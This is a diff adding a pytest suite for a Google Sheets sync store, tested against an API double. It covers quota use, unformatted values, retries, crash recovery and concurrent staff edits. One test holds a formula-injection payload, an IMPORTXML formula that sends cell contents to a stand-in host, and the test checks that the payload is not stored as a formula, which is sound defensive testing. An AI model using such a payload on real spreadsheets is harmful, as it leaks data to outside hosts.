@@ -1,0 +1,376 @@
+"""GoogleStore over the in-process API double: request counts, unformatted values, no formulas,
+staff edits between the read and the write, crashes, retries."""
+
+from __future__ import annotations
+
+import contextlib
+from collections.abc import Callable
+from datetime import timedelta
+from pathlib import Path
+from typing import Any
+
+import pytest
+import requests
+
+from config.settings import Settings
+from rules.errors import InputError, StructureError, TransientError
+from sync import demo
+from sync.context import Context
+from sync.cycle import run_cycle
+from sync.demo_walk import FORWARD
+from sync.google_retry import RetryPolicy, call_with_retry, is_retryable
+from sync.google_store import GoogleStore
+from sync.tabs import I
+from tests.backends import GoogleBackend, response_row
+from tests.conftest import NOW
+from tests.google_double import GoogleDouble, SimulatedCrash
+from tests.google_double.a1 import cell_name
+from tests.test_workflow_cycle import act
+
+GET = "sheets.spreadsheets.get"
+BATCH = "sheets.spreadsheets.batchUpdate"
+RESPONSES = "Respons Formulir 1"
+
+
+@pytest.fixture
+def ctx() -> Context:
+    return Context.from_settings(Settings())
+
+
+@pytest.fixture
+def google(tmp_path: Path) -> GoogleBackend:
+    return GoogleBackend(tmp_path)
+
+
+def run(backend: GoogleBackend, ctx: Context, hours: int = 0) -> Any:
+    return run_cycle(backend.store(), ctx, NOW + timedelta(hours=hours))
+
+
+def state(backend: GoogleBackend) -> dict[str, Any]:
+    """Every tab's rows, as sets keyed by content: row order (which staff may change) aside."""
+    out: dict[str, Any] = {}
+    for title in backend.tabs():
+        rows = backend.tab(title)
+        data = sorted(repr(r) for r in rows[1:] if any(v is not None for v in r))
+        out[title] = (tuple(rows[0]) if rows else (), data)
+    return out
+
+
+def cases_with_decision(backend: GoogleBackend, ctx: Context, count: int) -> list[str]:
+    rows = backend.tab(ctx.tabs.intake.name)
+    column = rows[0].index(I.ID)
+    ids = [str(r[column]) for r in rows[1:] if column < len(r) and str(r[column] or "").startswith("SAPA-")]
+    for case in ids[:count]:
+        act(backend, Settings(), case, FORWARD)
+    return ids[:count]
+
+
+# --- quota ----------------------------------------------------------------------------
+
+
+def test_idle_cycle_costs_one_request_and_busy_cycle_two(google: GoogleBackend, ctx: Context) -> None:
+    google.create(demo.sample_rows(60), Settings())
+    google.double.reset_counts()
+    result = run(google, ctx)
+    assert result.count("case_created") >= 50
+    assert dict(google.double.counts) == {GET: 1, BATCH: 1}
+
+    google.double.reset_counts()
+    assert not run(google, ctx).plan
+    assert dict(google.double.counts) == {GET: 1}
+
+    # staff decisions and new form responses together: still one read and one write
+    cases_with_decision(google, ctx, 5)
+    for i in range(3):
+        google.double.form_submit(google.spreadsheet_id, ["" for _ in range(3)] + [f"Pelapor {i}"], title=RESPONSES)
+    google.double.reset_counts()
+    result = run(google, ctx, 1)
+    assert result.count("transition") == 5
+    assert dict(google.double.counts) == {GET: 1, BATCH: 1}
+
+
+def test_the_read_asks_only_for_what_it_needs(google: GoogleBackend, ctx: Context) -> None:
+    google.create([response_row()], Settings())
+    run(google, ctx)
+    get = next(e for e in google.double.log if e.method_id == GET)
+    assert "includeGridData=true" in get.url
+    assert "effectiveValue" in get.url and "formattedValue" not in get.url
+    assert "userEnteredValue" not in get.url
+
+
+# --- values ---------------------------------------------------------------------------
+
+
+def test_values_are_read_unformatted(google: GoogleBackend, ctx: Context) -> None:
+    google.create([response_row(reporter_phone="0812-3456-7890", victim_age="07")], Settings())
+    run(google, ctx)
+    snapshot = google.store().read([t.name for t in ctx.tabs.all])
+    record = snapshot.responses.records()[0]
+    questions = Settings().form.questions
+    assert record[questions["reporter_phone"]] == "0812-3456-7890"  # leading zero kept
+    assert record[questions["victim_age"]] == "07"
+    assert isinstance(record[questions["timestamp"]], float)  # a date-time serial, whatever the locale
+    register = snapshot.tabs[ctx.tabs.register.name].records()[0]
+    assert register["ID Kasus"] == "SAPA-2026-0001"
+
+
+def test_no_formula_anywhere_after_an_injection_attempt(google: GoogleBackend, ctx: Context) -> None:
+    attack = '=IMPORTXML("http://contoh.invalid/?d="&A2, "//a")'
+    google.create([response_row(story=attack, victim_name="+SUM(1)", reporter_name="@x")], Settings())
+    run(google, ctx)
+    cells = google.cells()
+    assert not [c for c in cells if c[2]], "a formula was stored"
+    assert [tab for tab, value, _ in cells if value == attack] == [RESPONSES, ctx.tabs.intake.name]
+    requests_sent = [e.request for e in google.double.log if e.method_id == BATCH]
+    assert "formulaValue" not in repr(requests_sent)
+
+
+# --- staff editing between the read and the write --------------------------------------
+
+
+def _after_first(method: str, action: Callable[[GoogleDouble], None]) -> Callable[..., None]:
+    done: list[bool] = []
+
+    def hook(double: GoogleDouble, method_id: str, request: Any) -> None:
+        if method_id == method and not done:
+            done.append(True)
+            action(double)
+
+    return hook
+
+
+def _reference(tmp_path: Path, ctx: Context, rows: list[dict[str, object]], decisions: int) -> dict[str, Any]:
+    backend = GoogleBackend(tmp_path / "reference")
+    backend.create(rows, Settings())
+    run(backend, ctx)
+    cases_with_decision(backend, ctx, decisions)
+    run(backend, ctx, 1)
+    return state(backend)
+
+
+@pytest.mark.parametrize("edit", ["sort", "sort_responses", "insert", "delete_other"])
+def test_staff_edits_between_read_and_write_never_land_in_another_cases_row(
+    edit: str, tmp_path: Path, ctx: Context
+) -> None:
+    rows = demo.sample_rows(12)
+    google = GoogleBackend(tmp_path / "g")
+    google.create(rows, Settings())
+    run(google, ctx)
+    decided = cases_with_decision(google, ctx, 3)
+    sid, intake = google.spreadsheet_id, ctx.tabs.intake.name
+    double = google.double
+    edits: dict[str, Callable[[GoogleDouble], None]] = {
+        "sort": lambda d: d.staff_sort(sid, intake, 0, descending=True),
+        "sort_responses": lambda d: d.staff_sort(sid, RESPONSES, 1, descending=True),
+        "insert": lambda d: d.staff_insert_rows(sid, intake, 2, 2),
+        "delete_other": lambda d: d.staff_delete_rows(sid, intake, 10),
+    }
+    deleted = None
+    if edit == "delete_other":
+        deleted = str(google.tab(intake)[9][0])
+        assert deleted not in decided
+    double.on_request(_after_first(BATCH, edits[edit]))
+    try:
+        run(google, ctx, 1)
+        failed = False
+    except TransientError:
+        failed = True
+    double.clear_hooks()
+    before_retry = state(google)
+    run(google, ctx, 1)  # the next cycle completes whatever happened
+    final = state(google)
+    reference = _reference(tmp_path, ctx, rows, 3)
+    log = ctx.tabs.log.name
+    final_log = final[log]
+    if edit == "delete_other":  # the deleted case row came back (and that is logged)
+        assert set(reference[log][1]) <= set(final_log[1])
+        final.pop(log), reference.pop(log)
+    assert final == reference  # every row holds its own case's values, whatever the row order
+    assert failed == (edit in ("sort", "insert", "delete_other")), "a moved row must refuse the write"
+    if failed:  # the refused write left nothing half-applied: the decisions were not yet applied
+        assert before_retry[log][1] != final_log[1]
+
+
+def test_a_moved_row_fails_the_whole_write_cleanly(google: GoogleBackend, ctx: Context) -> None:
+    google.create(demo.sample_rows(12), Settings())
+    run(google, ctx)
+    cases_with_decision(google, ctx, 2)
+    sid, intake = google.spreadsheet_id, ctx.tabs.intake.name
+    google.double.on_request(_after_first(BATCH, lambda d: d.staff_sort(sid, intake, 0, descending=True)))
+    before = state(google)  # row order aside, so staff's sort does not count
+    with pytest.raises(TransientError, match="nothing of it was applied"):
+        run_cycle(google.store(), ctx, NOW + timedelta(hours=1))
+    google.double.clear_hooks()
+    assert state(google) == before
+    replies = [e for e in google.double.log if e.method_id == BATCH]
+    assert replies[-1].status == 400
+
+
+# --- crashes --------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(("k", "applied"), [(1, False), (2, False), (2, True), (3, False), (4, True)])
+def test_a_crash_after_any_request_then_rerunning_ends_as_without_faults(
+    k: int, applied: bool, tmp_path: Path, ctx: Context
+) -> None:
+    rows = demo.sample_rows(15)
+    google = GoogleBackend(tmp_path / "g")
+    google.create(rows, Settings())
+    run(google, ctx)
+    cases_with_decision(google, ctx, 2)
+    google.double.crash_after(k, applied=applied)
+    for _ in range(3):
+        with contextlib.suppress(SimulatedCrash):
+            run(google, ctx, 1)
+    google.double.clear_faults()
+    run(google, ctx, 1)
+    assert state(google) == _reference(tmp_path, ctx, rows, 2)
+
+
+def test_a_resent_write_whose_answer_was_lost_is_refused_not_applied_twice(
+    google: GoogleBackend, ctx: Context, tmp_path: Path
+) -> None:
+    rows = demo.sample_rows(10)
+    google.create(rows, Settings())
+    google.double.timeout_next(BATCH, applied=True)  # applied, then the answer is lost; the retry is refused
+    with pytest.raises(TransientError):
+        run(google, ctx)
+    run(google, ctx)
+    reference = GoogleBackend(tmp_path / "reference")
+    reference.create(rows, Settings())
+    run(reference, ctx)
+    assert state(google) == state(reference)
+
+
+# --- retries --------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("fault", ["429", "500", "503", "403-rate", "timeout"])
+def test_retryable_failures_are_retried_with_backoff(google: GoogleBackend, ctx: Context, fault: str) -> None:
+    google.create([response_row()], Settings())
+    double = google.double
+    for method in (GET, BATCH):
+        if fault == "timeout":
+            double.timeout_next(method)
+        elif fault == "403-rate":
+            double.fail_next(method, status=403)
+        else:
+            double.fail_next(method, status=int(fault))
+    policy = RetryPolicy(sleep=lambda _: None, random=lambda: 0.5)
+    store = GoogleStore(google.client, google.spreadsheet_id, retry=policy)
+    run_cycle(store, ctx, NOW)
+    assert len(policy.slept) == 2 and all(0 <= s <= policy.cap for s in policy.slept)
+    assert double.counts[GET] == 2 and double.counts[BATCH] == 2
+
+
+def test_retries_stop_at_the_cap_with_a_transient_error(google: GoogleBackend, ctx: Context) -> None:
+    google.create([response_row()], Settings())
+    google.double.fail_next(GET, status=429, times=100)
+    policy = RetryPolicy(attempts=4, sleep=lambda _: None)
+    with pytest.raises(TransientError, match="after 4 attempts"):
+        run_cycle(GoogleStore(google.client, google.spreadsheet_id, retry=policy), ctx, NOW)
+    assert google.double.counts[GET] == 4
+
+
+def test_backoff_is_exponential_with_full_jitter_and_a_time_cap() -> None:
+    slept: list[float] = []
+    clock = [0.0]
+
+    def sleep(seconds: float) -> None:
+        slept.append(seconds)
+        clock[0] += seconds
+
+    def failing() -> None:
+        raise requests.exceptions.ReadTimeout("slow")
+
+    policy = RetryPolicy(attempts=50, base=1.0, cap=8.0, total=30.0, sleep=sleep, random=lambda: 1.0,
+                         clock=lambda: clock[0])
+    with pytest.raises(TransientError):
+        call_with_retry("x", failing, policy)
+    assert slept[:5] == [1.0, 2.0, 4.0, 8.0, 8.0]
+    assert sum(slept) <= 30.0
+
+
+def test_every_request_has_a_timeout(google: GoogleBackend) -> None:
+    GoogleStore(google.client, "x")
+    assert google.client.http_client.timeout is not None
+
+
+def test_a_bad_request_is_not_retried() -> None:
+    class Response:
+        status_code = 400
+        text = '{"error": {"code": 400, "message": "bad", "status": "INVALID_ARGUMENT"}}'
+
+    class Err(Exception):
+        response = Response()
+
+    assert not is_retryable(Err())
+
+
+# --- errors ---------------------------------------------------------------------------
+
+
+def test_no_access_says_to_share_the_spreadsheet(google: GoogleBackend, ctx: Context) -> None:
+    google.create([response_row()], Settings())
+    google.double.deny_access(google.spreadsheet_id)
+    with pytest.raises(InputError, match="share the spreadsheet") as err:
+        run(google, ctx)
+    assert "fake" not in str(err.value)  # never the token
+
+
+def test_a_missing_responses_tab_is_a_structure_error(google: GoogleBackend, ctx: Context) -> None:
+    google.create([response_row()], Settings(), tab="Sheet1")
+    with pytest.raises(StructureError, match="form responses tab"):
+        run(google, ctx)
+
+
+def test_new_tabs_have_a_frozen_header_and_dropdowns(google: GoogleBackend, ctx: Context) -> None:
+    google.create([response_row()], Settings())
+    run(google, ctx)
+    batch = next(e.request for e in google.double.log if e.method_id == BATCH)
+    adds = [r["addSheet"] for r in batch["requests"] if "addSheet" in r]
+    assert adds and all(a["properties"]["gridProperties"]["frozenRowCount"] == 1 for a in adds)
+    intake = ctx.tabs.intake.name
+    headers = google.tab(intake)[0]
+    cell = google.double.cell(google.spreadsheet_id, intake, cell_name(1, headers.index(I.DECISION)))
+    assert cell.data_validation is not None
+
+
+def _submit(backend: GoogleBackend, count: int) -> None:
+    from datetime import datetime
+
+    from rules.complaint import FIELDS
+
+    for i in range(count):
+        answers = response_row(victim_name=f"Korban Baru {i}", story=f"Cerita baru {i}", kelurahan="Pasiran")
+        values = [answers.get(f) for f in list(FIELDS)[1:]]
+        backend.double.form_submit(backend.spreadsheet_id, values, title=RESPONSES,
+                                   timestamp=datetime(2026, 11, 28, 9, 40 + i))
+
+
+@pytest.mark.parametrize("first_cycle", [
+    False,
+    pytest.param(True, marks=pytest.mark.xfail(strict=True, reason=(
+        "known gap: before the first write no response row carries metadata and the tab has no sentinel, "
+        "so a sort of the responses tab between the very first read and write is not detected"))),
+])
+def test_sorting_the_responses_tab_during_intake_never_swaps_ids(
+    first_cycle: bool, tmp_path: Path, ctx: Context
+) -> None:
+    def make(folder: str, sort: bool) -> GoogleBackend:
+        backend = GoogleBackend(tmp_path / folder)
+        backend.create(demo.sample_rows(12), Settings())
+        sid = backend.spreadsheet_id
+        if not first_cycle:
+            run(backend, ctx)
+            _submit(backend, 4)
+        if sort:
+            backend.double.on_request(_after_first(BATCH, lambda d: d.staff_sort(sid, RESPONSES, 2, True)))
+        with contextlib.suppress(TransientError):
+            run(backend, ctx, 1)
+        backend.double.clear_hooks()
+        run(backend, ctx, 1)
+        return backend
+
+    sorted_, reference = make("sorted", True), make("reference", False)
+    assert state(sorted_) == state(reference)  # each response keeps the ID its answers were given
